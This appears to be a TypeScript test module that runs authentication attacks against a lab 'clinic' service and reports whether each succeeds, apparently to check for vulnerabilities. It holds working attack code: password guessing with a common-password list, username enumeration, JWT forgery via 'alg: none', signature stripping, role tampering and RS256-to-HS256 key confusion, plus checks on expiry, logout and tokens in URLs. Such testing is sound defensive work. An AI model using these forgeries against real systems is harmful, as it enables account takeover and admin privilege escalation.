import { createHmac, createPublicKey } from 'node:crypto';
import { setTimeout as sleep } from 'node:timers/promises';
import { type Attacks, PASSWORDS, type Target } from './target.ts';

const GUESSES = [
  '123456',
  'password',
  'qwerty',
  'letmein',
  'welcome1',
  'samuel',
  'boateng',
  PASSWORDS['samuel.boateng'],
];

const encode = (value: object): string => Buffer.from(JSON.stringify(value)).toString('base64url');
const decode = (text: string): Record<string, unknown> => JSON.parse(Buffer.from(text, 'base64url').toString());

/** Who the clinic takes the bearer of a token for. */
async function me(clinic: Target, token: string): Promise<unknown> {
  const { json } = await clinic.ask('GET', '/me', { headers: { authorization: `Bearer ${token}` } });
  return json?.principal;
}

/** Logins and tokens. */
export const session = {
  'weak-login': async (clinic) => {
    let status = 0;
    for (const password of GUESSES) {
      ({ status } = await clinic.ask('POST', '/login', { body: { username: 'samuel.boateng', password } }));
    }
    return [status === 200];
  },
  'user-enumeration': async (clinic) => {
    const guess = async (username: string) => {
      const { status, json } = await clinic.ask('POST', '/login', { body: { username, password: 'wrong' } });
      return `${status} ${json.detail.replaceAll(username, 'NAME')}`;
    };
    return [(await guess('priya.raman')) !== (await guess('nobody.known'))];
  },
  'unsigned-tokens': async (clinic) => {
    const token = `${encode({ alg: 'none', typ: 'at+jwt' })}.${encode({ sub: 'staff:9', roles: ['admin'] })}.`;
    const { status } = await clinic.ask('GET', '/staff', { headers: { authorization: `Bearer ${token}` } });
    return [status === 200];
  },
  'token-signature': async (clinic) => {
    const [head = '', body = '', signature = ''] = (await clinic.token('lucia.ferreira')).split('.');
    const raised = `${head}.${encode({ ...decode(body), sub: 'staff:9', roles: ['admin'] })}`;
    const stranger = await me(clinic, `${raised}.${signature}`);
    const stripped = await me(clinic, `${raised}.`);
    return [stranger === 'staff:9', stripped === 'staff:9'];
  },
  'token-algorithm': async (clinic) => {
    const { json } = await clinic.ask('GET', '/.well-known/jwks.json');
    const pem = createPublicKey({ key: json.keys[0], format: 'jwk' }).export({ type: 'spki', format: 'pem' });
    const [, body = ''] = (await clinic.token('lucia.ferreira')).split('.');
    const text = `${encode({ alg: 'HS256', typ: 'at+jwt' })}.${encode({ ...decode(body), sub: 'staff:9' })}`;
    const signature = createHmac('sha256', pem).update(text).digest('base64url');
    return [(await me(clinic, `${text}.${signature}`)) === 'staff:9'];
  },
  'token-expiry': async (clinic) => {
    const login = { username: 'lucia.ferreira', password: PASSWORDS['lucia.ferreira'], lifetimeSeconds: 1 };
    const { json } = await clinic.ask('POST', '/login', { body: login });
    const { exp } = decode(json.accessToken.split('.')[1]);
    // It must have died by the clock that both share.
    while (Date.now() <= (Number(exp) + 1) * 1000) await sleep(Math.max(1, (Number(exp) + 1) * 1000 - Date.now()));
    return [(await me(clinic, json.accessToken)) === 'patient:3'];
  },
  'logout-nothing': async (clinic) => {
    const login = { username: 'lucia.ferreira', password: PASSWORDS['lucia.ferreira'] };
    const { json } = await clinic.ask('POST', '/login', { body: login });
    const headers = { authorization: `Bearer ${json.accessToken}` };
    const { status } = await clinic.ask('POST', '/logout', { headers });
    return [status === 204 && (await me(clinic, json.accessToken)) === 'patient:3'];
  },
  'credentials-in-url': async (clinic) => {
    const { json } = await clinic.ask('GET', `/me?access_token=${await clinic.token('lucia.ferreira')}`);
    return [json?.principal === 'patient:3'];
  },
} satisfies Partial<Attacks>;
